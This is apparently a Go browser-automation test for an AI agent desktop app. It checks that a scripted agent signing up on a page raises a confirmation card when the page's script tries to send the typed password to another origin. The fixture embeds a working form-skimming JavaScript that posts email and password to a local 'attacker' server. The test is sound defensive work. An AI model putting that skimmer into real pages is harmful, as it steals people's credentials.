package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"vroom/internal/modeltest"
	"vroom/internal/testenv"
)

// channelSignup is a sign-up page whose script, as the form is sent,
// posts the person's email and typed password to an attacker on another
// origin (once a sending), and the form itself to its own site.
type channelSignup struct {
	URL string

	mu      sync.Mutex
	stolen  int
	signups int
}

func newChannelSignup(t *testing.T) *channelSignup {
	t.Helper()
	c := &channelSignup{}
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.stolen++
		c.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(attacker.Close)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.Method == http.MethodPost {
			c.mu.Lock()
			c.signups++
			c.mu.Unlock()
			fmt.Fprint(w, `<!doctype html><title>Welcome</title><h1>Account created</h1>`)
			return
		}
		fmt.Fprintf(w, `<!doctype html><title>Sign up</title><h1>Create your account</h1>
<form id="f" method="post" action="/signup">
<label>Email <input name="email" type="email"></label>
<label>Password <input name="password" type="password" autocomplete="new-password"></label>
<button>Sign up</button></form>
<script>
document.getElementById('f').addEventListener('submit', ev => {
  ev.preventDefault();
  const q = new URLSearchParams(new FormData(ev.target)).toString();
  fetch(%q + '/collect', {method: 'POST', mode: 'no-cors', body: q}).catch(() => {}).finally(() => ev.target.submit());
});
</script>`, attacker.URL)
	}))
	t.Cleanup(site.Close)
	c.URL = site.URL
	return c
}

// counts is what reached the attacker and the site's own form.
func (c *channelSignup) counts() (stolen, signups int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.stolen, c.signups
}

// TestDesktopChannelCard: during an agent's run in the desktop, a page's
// script that sends the typed password to another origin raises one card
// naming the destination; Deny leaves the attacker without a request,
// "Allow once" lets exactly one through; the form goes to its own site
// either way.
func TestDesktopChannelCard(t *testing.T) {
	testenv.NeedDisplay(t)
	page := newChannelSignup(t)
	srv := modeltest.New(t)
	srv.Script("planner", modeltest.PlannerScript(map[string]any{"task": "sign up as ada@example.com", "url": page.URL + "/"}))
	srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
		switch n := r.ToolResults(); {
		case n == 0:
			return modeltest.Call("type", map[string]any{"ref": modeltest.Ref(r.Text(), "textbox", "Email"), "text": "ada@example.com"})
		case n == 1:
			return modeltest.Call("type", map[string]any{"ref": modeltest.Ref(r.Text(), "textbox", "Password"), "text": "Tr0ub4dor-and-3"})
		case n == 2:
			return modeltest.Call("click", map[string]any{"ref": modeltest.Ref(r.Text(), "button", "Sign up")})
		case strings.Contains(r.LastText(), "Account created") && strings.Contains(r.Text(), "script was refused"):
			return modeltest.Call("done", map[string]any{"summary": "signed up; the page's script was refused", "success": true})
		case strings.Contains(r.LastText(), "Account created"):
			return modeltest.Call("done", map[string]any{"summary": "signed up, nothing refused", "success": true})
		case n < 8:
			return modeltest.Call("wait", map[string]any{"text": "Account created"})
		}
		return modeltest.Call("done", map[string]any{"summary": "no account", "success": false})
	}})
	url, _ := startDesk(t, srv)
	ctx := headless(t, url)
	for i, tc := range []struct {
		button, summary string
		stolen          int
	}{{"deny", "the page's script was refused", 0}, {"once", "nothing refused", 1}} {
		if err := chromedp.Do(ctx,
			chromedp.SendKeys(chromedp.CSS(`input[name=omnibox]`), "sign up as ada@example.com"),
			chromedp.KeyEvent("\r"),
			chromedp.WaitVisible(chromedp.CSS(`.card[data-kind=confirm]`)),
		); err != nil {
			t.Fatalf("%s: %v", tc.button, err)
		}
		if n := eval[int](t, ctx, `document.querySelectorAll('.card[data-kind=confirm]').length`); n != 1 {
			t.Fatalf("%s: %d cards, want one for the first refused send", tc.button, n)
		}
		card := eval[string](t, ctx, `document.querySelector('.card[data-kind=confirm]').textContent`)
		if !strings.Contains(card, "agent") || !strings.Contains(card, "127.0.0.1") || !strings.Contains(card, "masked field") {
			t.Fatalf("%s: the card %q does not name the agent, the destination and the data", tc.button, card)
		}
		if stolen, _ := page.counts(); stolen != 0 {
			t.Fatalf("%s: the attacker got %d requests before the answer", tc.button, stolen)
		}
		if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS(`.card button.`+tc.button))); err != nil {
			t.Fatal(err)
		}
		waitJS(t, ctx, "the run over", fmt.Sprintf(`(document.querySelector('.ended')?.textContent || '').includes(%q) && !document.querySelector('.card')`, tc.summary), 60*time.Second)
		if stolen, signups := page.counts(); stolen != tc.stolen || signups != i+1 {
			t.Fatalf("after %s: the attacker got %d requests (want %d), the site %d sign-ups (want %d)", tc.button, stolen, tc.stolen, signups, i+1)
		}
	}
}
